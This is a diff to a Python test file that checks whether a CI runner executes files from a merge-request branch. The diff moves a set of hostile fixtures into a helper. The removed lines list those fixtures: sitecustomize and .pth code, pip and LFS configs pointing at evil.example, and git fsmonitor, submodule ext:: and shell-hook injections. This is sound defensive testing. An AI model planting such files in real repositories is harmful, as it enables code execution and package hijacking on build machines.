@@ -15,6 +15,7 @@ import pytest
 from tests.catalogs.unity_server import UnityServer, serving
 from tests.ci.conftest import Cli, FakeSpark, Repository, cli, fake_spark, git, repo
 from tests.ci.gitlab_runner import GitLabRunner, jobs_of
+from tests.ci.hostile_files import hostile_files
 from tests.ci.test_gitlab import MALLORY, REPORT, TOKEN, FakeGitLab, gitlab, merged_as
 from tests.commands.log_lake import create, set_property
 
@@ -287,38 +288,7 @@ def test_jobs_share_no_cache(runner: GitLabRunner) -> None:
     assert not (runner.root / "cache").exists()
 
 
-PROGRAM = "import pathlib; pathlib.Path({pwned!r}).write_text('x')\n"
-MODULES = ("sitecustomize", "usercustomize", "tablectl", "pip", "yaml", "json", "tablectl_guard", "hooks")
-
-
 def test_no_file_of_a_branch_is_code_or_configuration_of_its_job(runner: GitLabRunner, tmp_path: Path) -> None:
     pwned = tmp_path / "pwned"
-    run = PROGRAM.format(pwned=str(pwned))
-    shell = f"touch {pwned}"
-    rules = "[tablectl.lint_rules]\nX1 = sitecustomize:run\n"
-    files = {f"{name}.py": run for name in MODULES} | {
-        "evil.pth": run,
-        "evil-1.dist-info/entry_points.txt": rules,
-        "evil.egg-info/entry_points.txt": rules,
-        "pyvenv.cfg": "home = .\n",
-        "pip.conf": "[global]\nindex-url = https://evil.example\n",
-        ".config/pip/pip.conf": "[global]\nindex-url = https://evil.example\n",
-        ".netrc": "machine evil.example login a password b\n",
-        ".env": f"PATH=.\nBASH_ENV=.bashrc\nTABLECTL_BASE_CONFIG={tmp_path}/x\n",
-        ".bashrc": shell,
-        ".profile": shell,
-        "bin/python": shell,
-        "setup.py": run,
-        "conftest.py": run,
-        ".gitattributes": "* filter=evil diff=evil\n",
-        ".gitconfig": f"[core]\nfsmonitor = {shell}\n",
-        ".lfsconfig": "[lfs]\nurl = https://evil.example\n",
-        ".gitmodules": f'[submodule "x"]\npath = x\nurl = ext::{shell}\nupdate = !{shell}\n',
-        "HEAD": "ref: refs/heads/main\n",
-        "refs/heads/kept": "",
-        "objects/kept": "",
-        "config": f"[core]\nbare = true\nfsmonitor = {shell}\n",
-        "tablectl.yaml": f"window: {{before: [sh, -c, '{shell}']}}\nnotify: [{{command: [sh, -c, '{shell}']}}]\n",
-    }
-    assert runner.job("plan", branch(**files), MERGE_REQUEST) == 0, runner.said
+    assert runner.job("plan", branch(**hostile_files(pwned)), MERGE_REQUEST) == 0, runner.said
     assert not pwned.exists()
